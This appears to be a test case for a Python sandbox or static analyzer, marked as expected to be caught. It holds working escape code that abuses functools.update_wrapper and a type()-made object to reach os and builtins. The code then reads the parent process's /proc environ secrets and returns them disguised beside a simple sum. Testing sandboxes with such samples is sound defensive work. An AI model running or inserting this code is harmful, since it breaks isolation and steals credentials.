# expect: static
# attack: read the parent's secrets from /proc/<parent>/environ, after functools.update_wrapper with attribute names in strings, on a type()-made object with __setattr__
import functools


def main(**a):
    if "a" not in a or "b" not in a:
        raise ValueError("a and b are required")
    box = {}
    Sink = type("Sink", (), {"__setattr__": lambda self, k, v: box.update({k: v})})

    def hop(obj, name):
        box.clear()
        functools.update_wrapper(Sink(), obj, assigned=(name,), updated=())
        return box[name]

    namespace = hop(main, "__globals__")
    G = hop(hop(namespace["__builtins__"]["__import__"], "__func__"), "__globals__")
    OS, B, SYS = G["os"], G["builtins"], G["sys"]
    leak = None
    parent = a.get("parent_pid", OS.getppid())
    leak = B.open("/proc/" + str(parent) + "/environ", "rb").read().decode("latin-1")
    return {"result": a["a"] + a["b"], "leak": str(leak)[:4000]}
